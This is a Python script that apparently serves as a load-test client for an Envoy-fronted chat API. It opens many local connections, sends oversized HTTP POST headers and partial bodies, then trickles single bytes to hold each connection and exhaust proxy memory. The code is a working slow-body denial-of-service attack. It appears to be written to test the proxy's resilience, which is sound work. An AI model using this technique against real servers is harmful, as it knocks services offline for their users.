"""A client in a process of its own that fills memory: ``python slow_bodies.py PORT CONNECTIONS SIZE``.

Each connection sends SIZE bytes of a larger chat body, and then a byte every few seconds, until the process ends. The
process writes a line for each connection: ``sent``, or how the connection ended before. All connections send the same
bytes object, so that the process itself takes little memory.
"""

import asyncio
import contextlib
import socket
import sys

SLOW_S = 3.0
# With the default buffer size, 500 connections use all TCP memory of the kernel, and connections of other processes
# stall.
SEND_BUFFER_BYTES = 64 * 1024
_HEAD = "POST /v1/chat/completions HTTP/1.1\r\nhost: e\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n"


async def attack(port: int, body: bytes) -> None:
    """Send most of a request, and a byte now and then until Envoy ends the connection."""
    loop = asyncio.get_running_loop()
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SEND_BUFFER_BYTES)
        connection.setblocking(False)
        await loop.sock_connect(connection, ("127.0.0.1", port))
        ended = asyncio.create_task(_ended(connection))
        sending = asyncio.create_task(_send(connection, body))
        await asyncio.wait((ended, sending), return_when=asyncio.FIRST_COMPLETED)
        if sending.done() and not sending.result():
            await ended
        print(ended.result() if ended.done() else "sent", flush=True)
        while not ended.done():
            await asyncio.wait((ended,), timeout=SLOW_S)
            with contextlib.suppress(OSError):
                await loop.sock_sendall(connection, b"x")
        sending.cancel()


async def _send(connection: socket.socket, body: bytes) -> bool:
    """Send the head of a request with a body that is larger than ``body``, and ``body``; return whether it was sent."""
    loop = asyncio.get_running_loop()
    try:
        await loop.sock_sendall(connection, _HEAD.format(len(body) + 1_000_000).encode())
        await loop.sock_sendall(connection, body)
    except OSError:
        return False
    return True


async def _ended(connection: socket.socket) -> str:
    """Return the status of the answer, or ``reset``, when Envoy ends the connection."""
    try:
        return (await asyncio.get_running_loop().sock_recv(connection, 4096)).decode()[9:12] or "reset"
    except OSError:
        return "reset"


async def main(port: str, connections: str, size: str) -> None:
    body = b'{"model": "scripted", "messages": [{"role": "user", "content": "'.ljust(int(size), b"x")
    await asyncio.gather(*(attack(int(port), body) for _ in range(int(connections))))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
